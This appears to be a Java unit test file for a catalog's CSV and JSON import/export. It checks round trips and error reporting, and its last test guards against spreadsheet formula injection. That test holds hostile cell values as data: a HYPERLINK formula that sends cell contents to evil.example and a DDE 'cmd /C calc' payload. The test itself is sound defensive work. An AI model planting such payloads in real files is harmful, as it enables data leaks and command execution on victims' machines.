package dev.patchbay.catalog;

import static org.quicktheories.QuickTheory.qt;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.quicktheories.generators.SourceDSL.integers;
import static org.quicktheories.generators.SourceDSL.lists;
import static org.quicktheories.generators.SourceDSL.longs;
import static org.quicktheories.generators.SourceDSL.strings;

import dev.patchbay.connectors.testkit.Seeds;
import dev.patchbay.core.catalog.CatalogEntry;
import dev.patchbay.core.catalog.CatalogEntry.Security;
import dev.patchbay.core.catalog.IntegrationMethod;
import java.io.StringReader;
import java.io.StringWriter;
import java.util.List;
import java.util.Set;
import java.util.TreeSet;
import org.junit.jupiter.api.Test;
import org.quicktheories.core.Gen;
import org.quicktheories.generators.Generate;

/** K2: the spreadsheet (CSV) and JSON forms give back what was written, and say which rows they could not read. */
class CatalogFormsTest {

  /** Text as people type it into a spreadsheet cell: commas, quotes, semicolons, line breaks, accents, spaces. */
  private static Gen<String> text(int min) {
    Gen<Character> c = Generate.pick(List.of('a', 'Z', '7', ' ', ',', '"', ';', ':', '\n', 'é', '→', '-', '\'', '\t', '=', '+',
        '@', '\r'));
    return lists().of(c).ofSizeBetween(min, 12).map(cs -> {
      StringBuilder b = new StringBuilder();
      cs.forEach(b::append);
      return b.toString();
    }).assuming(s -> !s.isBlank() || min == 0);
  }

  private static <E extends Enum<E>> Gen<E> orNull(Class<E> type) {
    E[] values = type.getEnumConstants();
    return integers().between(-1, values.length - 1).map(i -> i < 0 ? null : values[i]);
  }

  private static Gen<Long> volume() {
    return longs().between(-1, 5_000_000L).map(v -> v < 0 ? null : v);
  }

  private static Gen<Security> security() {
    Gen<Set<String>> fields = lists().of(strings().betweenCodePoints('a', 'z').ofLengthBetween(1, 6))
        .ofSizeBetween(0, 3).map(TreeSet::new);
    return fields.zip(integers().between(-1, 1), text(0), (f, e, concerns) ->
        new Security(f, e < 0 ? null : e == 1, concerns));
  }

  private static Gen<CatalogEntry> entries() {
    Gen<CatalogEntry.Builder> named = text(1).zip(text(1), CatalogEntry::builder);
    Gen<CatalogEntry.Builder> systems = named.zip(text(1), text(0), text(1), text(0),
        (b, s, so, t, to) -> b.from(s, so).to(t, to));
    Gen<CatalogEntry.Builder> kinds = systems.zip(orNull(CatalogEntry.Pattern.class), orNull(CatalogEntry.Status.class),
        orNull(CatalogEntry.Frequency.class), (b, p, st, f) -> b.pattern(p == null ? CatalogEntry.Pattern.OTHER : p)
            .status(st == null ? CatalogEntry.Status.PROPOSED : st).frequency(f));
    Gen<CatalogEntry.Builder> how = kinds.zip(orNull(CatalogEntry.SyncType.class), orNull(CatalogEntry.Trigger.class),
        orNull(IntegrationMethod.class), (b, sy, tr, m) -> b.syncType(sy).trigger(tr).method(m));
    return how.zip(volume(), volume(), security(), text(0),
        (b, n, c, sec, notes) -> b.volumes(n, c).security(sec).notes(notes).build());
  }

  @Test
  void anyCatalog_writtenAndReadBack_isEqual_inBothForms() {
    qt().withFixedSeed(Seeds.seed("catalog K2 round trip")).withExamples(300).forAll(lists().of(entries()).ofSizeBetween(0, 8)).checkAssert(catalog -> {
      StringWriter csv = new StringWriter();
      CatalogCsv.write(catalog, csv);
      CatalogRead fromCsv = CatalogCsv.read(new StringReader(csv.toString()));
      assertEquals(List.of(), fromCsv.problems(), csv::toString);
      assertEquals(catalog, fromCsv.entries(), csv::toString);

      StringWriter json = new StringWriter();
      CatalogJson.write(catalog, json);
      CatalogRead fromJson = CatalogJson.read(new StringReader(json.toString()));
      assertEquals(List.of(), fromJson.problems());
      assertEquals(catalog, fromJson.entries(), json::toString);
    });
  }

  @Test
  void badRows_areReportedWithLineAndEveryReason_andTheRestIsRead() {
    String csv = String.join(",", CatalogCsv.COLUMNS) + "\n"
        + "Contacts to permits,Bi-directional sync,In production,contacts,crm,Ana,permits,Raj,120,\"1,200\",daily,delta,"
        + "schedule,API,\"sensitive: email, phone; encrypted\",\n"
        + "\n"
        + "Rates export,Other,live,rates,finance,,\"gis\nserver\",,lots,-5,fortnightly,Full copy,Schedule,FTP,,\n"
        + "Short row,Other\n"
        + ",Migration,Proposed,,legacy,,crm,,,,,,,,,\n";

    CatalogRead read = CatalogCsv.read(new StringReader(csv));

    assertEquals(1, read.entries().size());
    CatalogEntry first = read.entries().get(0);
    assertEquals(1_200L, first.changedPerMonth());
    assertEquals(CatalogEntry.Frequency.DAILY, first.frequency());
    assertEquals(new Security(Set.of("email", "phone"), true, ""), first.security());
    assertEquals(List.of(
        new CatalogRead.Problem(4, "Status 'live' is none of Proposed, In production, Retired; New Records Per Month 'lots'"
            + " is not a whole number of records; Changed Records Per Month '-5' is not a whole number of records; Update"
            + " Frequency 'fortnightly' is none of Real time, Hourly, Daily, Weekly, Monthly, Quarterly, Yearly, On demand,"
            + " Once; Integration Method 'FTP' is none of API, DATABASE, FILE, MESSAGE"),
        new CatalogRead.Problem(6, "has 2 values, the header 16"),
        new CatalogRead.Problem(7, "Integration is empty; Data Element is empty")), read.problems());
  }

  @Test
  void aHeaderWithoutTheCatalogsColumns_isRefused_namingEveryDifference() {
    String header = String.join(",", CatalogCsv.COLUMNS).replace("Trigger", "Triggered by") + ",Data Element\n";
    IllegalArgumentException e = assertThrows(IllegalArgumentException.class,
        () -> CatalogCsv.read(new StringReader(header)));
    assertEquals("catalog CSV header, line 1: 'Triggered by' is not a catalog column; 'Data Element' appears twice;"
        + " 'Trigger' is missing", e.getMessage());
  }

  @Test
  void json_badElements_areReportedByPosition() {
    String json = "[{\"Integration\": \"Rates\", \"Pattern\": \"Other\", \"Status\": \"Proposed\", \"Data Element\": \"rates\","
        + " \"Source System\": \"finance\", \"Target System\": \"gis\", \"New Records Per Month\": 40},"
        + " 7, {\"Integration\": \"x\", \"Colour\": \"red\"}]";
    CatalogRead read = CatalogJson.read(new StringReader(json));
    assertEquals(40L, read.entries().get(0).newPerMonth());
    assertEquals(List.of(new CatalogRead.Problem(2, "is not an object"),
        new CatalogRead.Problem(3, "'Colour' is not a catalog column")), read.problems());
  }

  /**
   * Defect 18: cells beginning with '=', '+', '-' or '@' were written as they were, and a
   * spreadsheet runs them (=HYPERLINK(...)). Now no cell of the written CSV begins with a formula
   * character (each is behind an apostrophe), and reading gives back exactly what was written.
   */
  @Test
  void formulaCells_areWrittenAsText_andReadBackExactly() {
    CatalogEntry e = CatalogEntry.builder("=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")", "+cmd|' /C calc'!A0")
        .from("@SUM(1+1)", "-2+3").to("'=already quoted", "\tTab").pattern(CatalogEntry.Pattern.OTHER)
        .status(CatalogEntry.Status.PROPOSED).notes("\r=1+1").build();
    StringWriter out = new StringWriter();
    CatalogCsv.write(List.of(e), out);
    String csv = out.toString();
    try (com.fasterxml.jackson.databind.MappingIterator<String[]> rows = new com.fasterxml.jackson.dataformat.csv.CsvMapper()
        .enable(com.fasterxml.jackson.dataformat.csv.CsvParser.Feature.WRAP_AS_ARRAY).readerFor(String[].class)
        .readValues(csv)) {
      while (rows.hasNext()) {
        for (String cell : rows.next()) {
          assertEquals(false, !cell.isEmpty() && "=+-@\t\r".indexOf(cell.charAt(0)) >= 0,
              "a cell a spreadsheet would run: " + cell);
        }
      }
    } catch (java.io.IOException x) {
      throw new java.io.UncheckedIOException(x);
    }
    assertEquals(true, csv.contains("'=HYPERLINK"), csv);
    assertEquals(true, csv.contains("''=already quoted"), csv);
    assertEquals(List.of(e), CatalogCsv.read(new StringReader(csv)).entries());
  }
}
